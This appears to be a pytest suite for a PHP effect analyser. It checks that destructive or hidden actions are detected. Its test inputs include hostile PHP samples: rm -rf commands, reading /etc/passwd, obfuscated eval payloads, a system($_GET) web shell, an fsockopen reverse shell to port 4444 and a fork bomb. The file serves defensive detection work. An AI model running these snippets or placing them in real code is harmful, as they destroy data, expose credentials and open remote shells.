"""PHP is followed far enough to say what it does, and no further."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.model.effect import Kind
from handrail.model.ordinal import Severity
from handrail.shell.inline.php import read


def effects(code: str) -> list[tuple[Kind, str]]:
    return [(effect.kind, effect.target) for effect in read(code).effects]


@pytest.mark.parametrize(
    ("code", "scripts"),
    [
        ('shell_exec("rm -rf /etc");', ("rm -rf /etc",)),
        ("$f='sys'.'tem'; $f('rm x'); SYSTEM('id');", ("rm x", "id")),
        (
            '$d="/etc"; system("rm -rf $d"); passthru("rm {$d}"); echo `ls $d`;',
            ("rm -rf /etc", "rm /etc", "ls /etc"),
        ),
        ("call_user_func('system', 'id'); array_map('exec', ['ls']);", ("id", "ls")),
        ("exec('rm -rf ' . escapeshellarg($dir), $out);", ("rm -rf \ufffc",)),
        ("$s = <<<EOT\nrm x\nEOT;\nsystem($s);", ("rm x\n",)),
        ("<?php system('id'); ?>", ("id",)),
    ],
)
def test_command_lines_that_go_to_a_shell_are_found(code: str, scripts: tuple[str, ...]) -> None:
    assert read(code).scripts == scripts


@pytest.mark.parametrize(
    ("code", "argv"),
    [
        ("pcntl_exec('/bin/rm', ['-rf', 'x']);", ("/bin/rm", "-rf", "x")),
    ],
)
def test_a_program_that_is_started_without_a_shell_is_found(
    code: str, argv: tuple[str, ...]
) -> None:
    assert read(code).calls == (argv,)


@pytest.mark.parametrize(
    ("code", "kind", "target"),
    [
        ('unlink("a");', Kind.DELETE, "a"),
        ('foreach (["/a","/b"] as $p) unlink($p);', Kind.DELETE, "/b"),
        ('foreach (glob("/e/*") as $k => $p) { unlink($p); }', Kind.DELETE, "/e/*"),
        ('file_put_contents("a", "x");', Kind.WRITE, "a"),
        ('fopen("a", "w");', Kind.WRITE, "a"),
        ('echo file_get_contents("/etc/passwd");', Kind.READ, "/etc/passwd"),
        ('file_get_contents("http://a");', Kind.FETCH, "http://a"),
        (
            '$c=curl_init("http://a"); curl_setopt($c, CURLOPT_POSTFIELDS, $x);',
            Kind.SEND,
            "http://a",
        ),
        ('include "http://a/x.php";', Kind.UNSEEN, "the code at http://a/x.php"),
        ('chmod("a", 0777);', Kind.PERMIT, "a"),
        ("posix_kill(-1, 9);", Kind.KILL, "every process"),
        ('$db->query("DROP TABLE t");', Kind.DESTROY, "DROP TABLE t"),
    ],
)
def test_an_effect_is_found_with_its_target(code: str, kind: Kind, target: str) -> None:
    assert (kind, target) in effects(code)


@pytest.mark.parametrize(
    "code",
    [
        'eval(base64_decode("ZWNobyAxOw=="));',
        "eval(gzinflate(base64_decode($x)));",
        'eval(file_get_contents("http://a"));',
        'eval(str_rot13("rpub 1;"));',
        'system($_GET["c"]);',
    ],
)
def test_what_nobody_can_see_before_it_runs_is_unseen(code: str) -> None:
    assert Kind.UNSEEN in {effect.kind for effect in read(code).effects}


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ('$s=fsockopen("a",4444);exec("/bin/sh -i <&3 >&3 2>&3");', Kind.UNSEEN),
        ("while(1) pcntl_fork();", Kind.EXHAUST),
    ],
)
def test_the_worst_is_critical(code: str, kind: Kind) -> None:
    assert (kind, Severity.CRITICAL) in {(e.kind, e.severity) for e in read(code).effects}


@pytest.mark.parametrize(
    "code",
    [
        'echo "rm -rf /";',
        '// system("x");\n# system("y")\n/* system("z") */ echo \'system("w")\';',
        'echo json_encode(["a"=>1]); print_r(array_keys($x)); echo PHP_VERSION;',
        "$x = json_decode(file_get_contents('a.json'), true); echo $x['name'];",
        "require 'vendor/autoload.php'; echo strlen('abc');",
    ],
)
def test_ordinary_code_and_words_in_texts_and_comments_do_nothing(code: str) -> None:
    result = read(code)
    assert {effect.kind for effect in result.effects} <= {Kind.READ, Kind.WRITE, Kind.RUN}
    assert not result.scripts
    assert not result.calls


@given(st.text())
def test_no_text_makes_it_raise(text: str) -> None:
    read(text)


@pytest.mark.parametrize(
    "piece", [*"([{'\"`/\\-#<$%@;|&=.", "${", "#{", "--[[", "/*", "<<A\n", "s/[", "a.b("]
)
def test_deep_or_endless_code_is_read_in_time(piece: str) -> None:
    read("system eval os open require(" + piece * 20_000)
